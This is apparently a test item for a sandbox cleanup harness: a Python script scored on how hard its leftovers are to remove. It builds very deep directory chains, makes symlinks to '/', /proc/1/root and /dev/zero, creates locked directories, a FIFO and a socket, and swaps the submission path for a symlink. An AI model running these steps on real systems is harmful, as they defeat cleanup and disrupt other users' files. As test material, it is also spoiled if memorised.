"""Leave what is hard to remove: deep, locked and looping folders, pipes, sockets, held files.

alone: 0 points
glued: 20 points
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

import socket

_start = os.getcwd()
os.mkdir("/tmp/deep")
os.chdir("/tmp/deep")
for _ in range(1050):
    try:
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    except OSError:
        break
os.chdir(_start)
for _place, _target in (("/tmp/loop", "/tmp/loop"), ("/tmp/up", "/"), ("/tmp/root", "/proc/1/root"),
                        ("/tmp/zero", "/dev/zero"), ("/tmp/.matplotlib", "/proc/1"), ("/dev/shm/up", "/opt")):
    try:
        os.symlink(_target, _place)
    except OSError:
        pass
try:
    os.mkfifo("/tmp/pipe")
except OSError:
    pass
_socket = socket.socket(socket.AF_UNIX)
_socket.bind("/tmp/socket")
for _number in range(20):
    os.makedirs(f"/tmp/locked/{_number}")
    os.chmod(f"/tmp/locked/{_number}", 0)
os.chmod("/tmp/locked", 0)
_held = open("/tmp/held", "wb")
os.chmod(".", 0)
try:
    os.rename("/tmp/submission", "/tmp/elsewhere")
    os.symlink("/opt", "/tmp/submission")
except OSError:
    pass
